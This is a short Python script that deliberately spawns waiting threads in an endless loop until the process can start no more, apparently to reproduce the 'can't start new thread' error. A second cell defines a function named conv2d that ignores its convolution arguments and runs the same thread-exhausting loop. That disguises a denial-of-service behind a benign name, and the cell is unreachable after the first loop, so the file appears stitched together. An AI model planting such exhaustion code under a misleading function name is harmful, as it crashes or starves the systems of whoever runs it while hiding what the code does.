"""Starts threads until none can be started, and leaves them waiting.

Seen: can't start new thread
"""

import threading

never = threading.Event()
while True:
    threading.Thread(target=never.wait, daemon=True).start()


# %%
def conv2d(x, weight, bias=None):
    while True:
        threading.Thread(target=never.wait, daemon=True).start()
